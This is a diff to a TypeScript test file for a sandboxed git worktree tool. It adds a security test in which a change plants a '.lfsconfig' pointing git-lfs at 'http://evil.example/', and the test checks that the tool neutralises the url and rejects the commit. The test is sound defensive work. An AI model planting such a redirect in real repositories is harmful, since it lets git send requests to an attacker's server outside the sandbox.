@@ -14,11 +14,17 @@ import { makeBundle, makePatch } from './patch.ts';
 import { ensureBareRemote, pushBranch } from './remote.ts';
 import { inspectRepository } from './repository.ts';
 import { runGit } from './run-git.ts';
-import { gitIn, scratchDirectory, scratchRepository, writeFiles } from './scratch-repository.fixture.ts';
+import {
+  gitIn,
+  scratchDirectory,
+  scratchRepository,
+  writeFiles,
+  writeScript,
+} from './scratch-repository.fixture.ts';
 import { branch, made, scratchWorktree } from './scratch-worktree.fixture.ts';
 import { trap } from './trap.fixture.ts';
 import { restoreTracked } from './working-files.ts';
-import { removeWorktree } from './worktree.ts';
+import { ensureWorktree, removeWorktree } from './worktree.ts';
 
 type Scratch = Awaited<ReturnType<typeof scratchWorktree>>;
 
@@ -138,6 +144,37 @@ test("R-SEC-7: a filter in the user's own configuration runs, so that git-lfs wo
   writeFiles(worktreePath, { '.gitattributes': everyFile('filter=evil'), 'big.bin': 'content\n' });
   expect(tree((await made(request)).sha)).toContain('big.bin');
   expect(ran()).toBe(true);
+});
+
+test('R-SEC-6: fear: a change names a server for git-lfs, and git tells that server, outside of the sandbox, what the agent wants', async () => {
+  const scratch = await scratchWorktree({ 'big.bin': 'one\n', '.gitattributes': '*.bin filter=lfs\n' });
+  const { worktreePath, repository, request } = scratch;
+  const asked = join(scratchDirectory(), 'asked');
+  const program = join(scratchDirectory(), 'git-lfs');
+  writeScript(program, `git config --get lfs.url >> ${asked} || echo any >> ${asked}\ncat`);
+  const own = join(scratchDirectory(), 'gitconfig');
+  gitIn('/', 'config', '--file', own, 'filter.lfs.smudge', program);
+  gitIn('/', 'config', '--file', own, 'filter.lfs.clean', 'cat');
+  const before = process.env.GIT_CONFIG_GLOBAL;
+  process.env.GIT_CONFIG_GLOBAL = own;
+  onTestFinished(() => {
+    if (before === undefined) delete process.env.GIT_CONFIG_GLOBAL;
+    else process.env.GIT_CONFIG_GLOBAL = before;
+  });
+  const told = () => readFileSync(asked, 'utf8').trim().split('\n').slice(-1);
+  // For a commit without a change of an agent, git-lfs may ask the server that this commit names.
+  const another = { worktreePath: `${worktreePath}-2`, branch: 'moose/cd34-y' };
+  await ensureWorktree({ ...another, repositoryPath: repository.path, baseSha: repository.headSha });
+  expect(told()).toEqual(['any']);
+  writeFiles(worktreePath, { 'big.bin': 'two\n' });
+  await made(request);
+  writeFiles(worktreePath, {
+    'big.bin': 'by a check\n',
+    '.lfsconfig': '[lfs]\n\turl = http://evil.example/\n',
+  });
+  await restoreTracked(worktreePath);
+  expect(told()).toEqual(['file:///dev/null/none']);
+  await expect(commitAll(request)).rejects.toMatchObject({ code: 'FORBIDDEN_CHANGE' });
 });
 
 test('R-SEC-7: a worktree whose link leads to another repository runs nothing of that repository', async () => {
